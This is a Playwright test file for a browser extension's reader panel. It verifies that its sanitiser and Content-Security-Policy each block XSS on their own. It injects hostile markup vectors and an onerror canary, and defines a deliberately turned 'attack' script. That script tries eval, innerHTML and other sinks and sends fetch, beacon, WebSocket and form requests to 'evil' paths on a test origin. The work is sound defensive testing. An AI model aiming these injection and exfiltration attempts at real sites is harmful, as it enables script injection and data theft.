/** Each wall holds alone: the tree with the policy taken away, the policy with raw markup and our own script turned evil. */
import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { type ChangedBuild, within } from '../changed-build'
import { browserItself, expect, openPage, test } from '../stage'

interface Vector {
  readonly id: string
  readonly html: string
}

const vectors: readonly Vector[] = JSON.parse(readFileSync(new URL('../../xss/vectors.json', import.meta.url), 'utf8'))

/** Writes down who speaks by a dialog box of the browser. Runs in the page before its own code. */
function listen(): void {
  const ran: string[] = []
  Reflect.set(globalThis, 'ran', ran)
  for (const name of ['alert', 'confirm', 'prompt', 'print'])
    Reflect.set(globalThis, name, (word: unknown) => void ran.push(`${name}(${word})`))
}

const ran = (page: Page): Promise<string[]> => page.evaluate(() => Reflect.get(globalThis, 'ran'))

/** Every event a person may cause, on everything that is drawn. */
function touch(): void {
  for (const element of document.querySelectorAll<HTMLElement>('body *')) {
    for (const type of ['pointerover', 'mouseover', 'mousedown', 'keydown', 'focus', 'toggle', 'animationend'])
      element.dispatchEvent(new Event(type, { bubbles: true }))
    // Links to pages are not followed: they lead where they say.
    const link = element.closest('a')
    const leads = link !== null && !/^(?:javascript|data|vbscript):/.test(link.protocol)
    if (element.closest('.article, [data-raw]') !== null && !leads)
      element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
  }
}

const withoutPolicy = async (build: ChangedBuild): Promise<void> => {
  await build.change('manifest.json', (text) => {
    const { content_security_policy: _, ...manifest } = JSON.parse(text)
    return JSON.stringify(manifest)
  })
  for (const page of ['sidepanel.html', 'listening.html'])
    await build.change(page, (html) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''))
}

test('the tree alone: without any policy no vector runs, asks for anything or leaves a node that it may not', async () => {
  await within(withoutPolicy, async (chromium, network) => {
    const hostile = vectors.filter(({ html }) => !/<meta|<plaintext/i.test(html))
    const paragraph = 'Whoever crossed the bridge that day saw the river below, and many of them wrote about it later.'
    const data = JSON.stringify(hostile).replaceAll('<', '\\u003c')
    const address = network.put('/hostile.html', {
      type: 'text/html; charset=utf-8',
      // The page itself may ask for nothing: what is asked for then is the panel's doing.
      headers: { 'content-security-policy': "default-src 'none'; script-src 'nonce-own'; base-uri 'none'" },
      body: `<!doctype html><html lang="en"><meta charset="utf-8"><title>The bridge</title><article><h1>The bridge</h1></article>
<script nonce="own">const article = document.querySelector('article')
for (const { html } of ${data}) {
  const box = document.createElement('div'); box.innerHTML = '<p>${paragraph} ${paragraph}</p>' + html; article.append(...box.childNodes)
}</script></html>`,
    })
    await chromium.context.addInitScript(listen)
    const page = await openPage(chromium, address)
    // Gives access to the page.
    await chromium.pressToolbarButton(page)
    const panel = await chromium.openPanelInTab(page)
    const devtools = await chromium.context.newCDPSession(panel)
    await devtools.send('Page.setBypassCSP', { enabled: true })
    const before = network.requests.length
    const asked: string[] = []
    panel.on('request', (request) => void asked.push(request.url()))
    await panel.reload()
    await expect(panel.locator('#reader')).toHaveAttribute('data-state', 'article')
    await expect(panel.locator('.article')).toContainText('wrote about it later')
    await panel.evaluate(touch)
    const armed = await panel.evaluate(() =>
      Array.from(document.querySelectorAll('.article *')).flatMap((element) =>
        Array.from(element.attributes)
          .filter(({ name, value }) => /^on|^srcdoc$/i.test(name) || /^\s*(?:javascript|vbscript):/i.test(value))
          .map(({ name, value }) => `${element.localName} ${name}=${value}`)
          .concat(
            /^(?:script|iframe|object|embed|form|input|base|link|meta|svg)$/.test(element.localName)
              ? [element.localName]
              : [],
          ),
      ),
    )
    // Our own pictures and controls are drawn with svg; the publisher's is not.
    expect(armed.filter((each) => each !== 'svg')).toEqual([])
    expect(await ran(panel)).toEqual([])
    const foreign = asked.filter((url) => !/^(?:chrome-extension|data|blob):/.test(url))
    const pictures = await panel.evaluate(() =>
      Array.from(document.querySelectorAll<HTMLImageElement>('.article img'), ({ src }) => src),
    )
    expect(foreign.filter((url) => !pictures.includes(url))).toEqual([])
    // Of what is asked for over https the proxy learns no more than the host.
    const hosts = pictures.filter((src) => URL.canParse(src)).map((src) => `CONNECT ${new URL(src).host}:443`)
    const left = network.requests.slice(before).filter((each) => !browserItself.test(each))
    expect(left.filter((each) => !hosts.includes(each) && !each.includes(address))).toEqual([])

    // The detector sees a script that does run: the policy is really gone.
    await panel.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="alert(\'canary\')">')
    })
    await expect.poll(() => ran(panel)).toEqual(['alert(canary)'])
  })
})

/** Vectors that reach the network though nothing runs: what no policy has a word for. They are why the tree comes first. */
const beyondPolicy =
  /<meta|http-equiv|<link|<img|<picture|srcset|<image|background|<video|poster|<input|<iframe|<object|<embed|<frame|<form|url\(|<a |<svg|<use|<feimage/i

test('the policy alone: raw markup in a page of the package runs nothing, and connects to nothing it names', async () => {
  test.setTimeout(180_000)
  const policy = /<meta http-equiv="Content-Security-Policy"[^>]*>/
  await within(
    async (build) => {
      let own = ''
      await build.change('sidepanel.html', (html) => {
        own = policy.exec(html)?.[0] ?? ''
        return `${html} `
      })
      for (const [number, { html }] of vectors.entries())
        await build.write(
          `raw-${number}.html`,
          `<!doctype html><html><head><meta charset="utf-8">${own}</head><body data-raw>${html}</body></html>`,
        )
    },
    async (chromium, network) => {
      const page = await chromium.context.newPage()
      await page.addInitScript(listen)
      const reached: string[] = []
      const gone: string[] = []
      for (const [number, { id, html }] of vectors.entries()) {
        const before = network.requests.length
        const address = `chrome-extension://${chromium.extensionId}/raw-${number}.html`
        await page.goto(address).catch(() => {})
        await page.evaluate(touch).catch(() => {})
        const words = await ran(page).catch(() => undefined)
        if (page.url() !== address || words === undefined) {
          gone.push(id)
          expect(html, id).toMatch(/<meta|http-equiv/i)
        } else expect(words, id).toEqual([])
        const asked = network.requests.slice(before).filter((each) => !browserItself.test(each))
        if (asked.length > 0) reached.push(id)
        if (asked.length > 0) expect(html, `${id}: ${asked.join()}`).toMatch(beyondPolicy)
      }
      test.info().annotations.push({
        type: 'what the policy alone does not stop',
        description: [...reached, ...gone].join(', '),
      })
      console.log(
        `The policy alone does not stop, of ${vectors.length}: requests of ${reached.join(', ') || 'none'}; leaving the page by ${gone.join(', ') || 'none'}.`,
      )
    },
  )
})

/** A script of the package that has gone over to the other side: it tries everything, and writes down what went through. */
async function attack(origin: string): Promise<void> {
  const through: string[] = []
  Reflect.set(globalThis, 'through', through)
  const violations: string[] = []
  Reflect.set(globalThis, 'violations', violations)
  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void violations.push(effectiveDirective))
  Reflect.set(globalThis, 'hit', (what: string) => void through.push(what))
  const box = document.createElement('div')
  const markup = '<img src="data:," onerror="hit(\'markup\')">'
  // What throws does not come through; what must not be possible is told by its coming back.
  const tries: Record<string, () => unknown> = {
    innerHTML: () => Reflect.set(box, 'innerHTML', markup),
    outerHTML: () => Reflect.set(document.body.appendChild(document.createElement('p')), 'outerHTML', markup),
    insertAdjacentHTML: () => box.insertAdjacentHTML('beforeend', markup),
    setHTMLUnsafe: () => (box as unknown as { setHTMLUnsafe(markup: string): void }).setHTMLUnsafe(markup),
    parseHTMLUnsafe: () =>
      (Document as unknown as { parseHTMLUnsafe(markup: string): Document }).parseHTMLUnsafe(markup),
    write: () => document.write(markup),
    parseFromString: () => new DOMParser().parseFromString(markup, 'text/html'),
    createContextualFragment: () => document.createRange().createContextualFragment(markup),
    srcdoc: () => Reflect.set(document.createElement('iframe'), 'srcdoc', markup),
    'script text': () => Reflect.set(document.createElement('script'), 'text', "hit('script')"),
    'script src': () => Reflect.set(document.createElement('script'), 'src', `${origin}/evil.js`),
    onclick: () => box.setAttribute('onclick', "hit('onclick')"),
    eval: () => Reflect.apply(Reflect.get(globalThis, 'ev' + 'al'), globalThis, ["hit('text')"]),
    Function: () => Reflect.construct(Reflect.get(globalThis, 'Func' + 'tion'), ["hit('function')"]),
    'timer of text': () => Reflect.apply(setTimeout, globalThis, ["hit('timer')", 0]),
    policy: () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy('default', {}),
    'policy of the worker': () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy('sidelight-worker', {}),
    worker: () => new Worker(`${origin}/evil.js`),
    'worker of a blob': () => new Worker(URL.createObjectURL(new Blob(['1']))),
    'program of the voice': () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  }
  document.body.append(box)
  for (const [name, work] of Object.entries(tries)) {
    try {
      work()
      through.push(name)
    } catch {
      // As it should be.
    }
  }
  const later: Record<string, () => Promise<unknown>> = {
    fetch: () => fetch(`${origin}/evil-fetch`, { mode: 'no-cors' }),
    'import of data': () => import(/* @vite-ignore */ String("data:text/javascript,hit('import')")),
    'import of the web': () => import(/* @vite-ignore */ `${origin}/evil.js`),
    socket: () =>
      new Promise((done, fail) => {
        const socket = new WebSocket(origin.replace('http', 'ws'))
        socket.onopen = done
        socket.onerror = fail
      }),
    events: () =>
      new Promise((done, fail) => {
        const events = new EventSource(`${origin}/evil-events`)
        events.onopen = done
        events.onerror = fail
      }),
    request: () =>
      new Promise((done, fail) => {
        const request = new XMLHttpRequest()
        request.onload = done
        request.onerror = fail
        request.open('GET', `${origin}/evil-request`)
        request.send()
      }),
    font: () => new FontFace('evil', `url(${origin}/evil.woff2)`).load(),
    sound: () => new Audio(`${origin}/evil.mp3`).play(),
  }
  for (const [name, work] of Object.entries(later)) {
    try {
      await work()
      through.push(name)
    } catch {
      // As it should be.
    }
  }
  navigator.sendBeacon(`${origin}/evil-beacon`)
  for (const [tag, attribute] of [
    ['iframe', 'src'],
    ['object', 'data'],
    ['embed', 'src'],
    ['img', 'src'],
    ['video', 'poster'],
    ['input', 'src'],
    ['link', 'href'],
  ] as const) {
    const element = document.createElement(tag)
    try {
      if (tag === 'link') element.setAttribute('rel', 'stylesheet')
      if (tag === 'input') element.setAttribute('type', 'image')
      element.setAttribute(attribute, `${origin}/evil-${tag}`)
      document.body.append(element)
    } catch {
      // A sink of trusted types.
    }
  }
  const base = document.createElement('base')
  base.href = `${origin}/evil/`
  document.head.append(base)
  if (document.baseURI !== location.href) through.push('base')
  base.remove()
  box.setAttribute('style', 'position: fixed')
  if (box.style.position === 'fixed') through.push('inline style')
  const form = document.body.appendChild(document.createElement('form'))
  form.action = `${origin}/evil-form`
  form.submit()
  for (const scheme of ['javascript', 'data']) {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = scheme === 'data' ? "data:text/html,<script>opener.hit('data')</script>" : "javascript:hit('link')"
    link.click()
  }
  const picture = new Image()
  const settled = new Promise((done) => {
    picture.onload = done
    picture.onerror = done
  })
  picture.src = `${origin}/evil-last.png`
  await settled
  Reflect.set(globalThis, 'isOver', true)
}

test('the policy alone: a script of our own that turns against the panel makes no code, no frame, no worker and no request', async () => {
  let origin = ''
  await within(
    async (build) => {
      await build.write('attack.js', `(${attack})(new URLSearchParams(location.search).get('to'))`)
      await build.change('sidepanel.html', (html) =>
        html.replace('</body>', '<script src="/attack.js" defer></script></body>'),
      )
    },
    async (chromium, network) => {
      origin = network.origin
      const panel = await chromium.context.newPage()
      await panel.goto(`chrome-extension://${chromium.extensionId}/sidepanel.html?to=${encodeURIComponent(origin)}`)
      await panel.waitForFunction(() => Reflect.get(globalThis, 'isOver') === true)
      expect(await panel.evaluate(() => Reflect.get(globalThis, 'through'))).toEqual([])
      expect(network.requests.filter((each) => /evil/.test(each))).toEqual([])
      expect(network.requests.filter((each) => !browserItself.test(each))).toEqual([])
      // Each directive has had its part in it: the attacks are real ones.
      const violations = new Set<string>(await panel.evaluate(() => Reflect.get(globalThis, 'violations')))
      expect([...violations].sort()).toEqual(
        expect.arrayContaining([
          'base-uri',
          'connect-src',
          'font-src',
          'form-action',
          'frame-src',
          'img-src',
          'media-src',
          'require-trusted-types-for',
          'script-src',
          'script-src-elem',
          'style-src-attr',
        ]),
      )
    },
  )
})
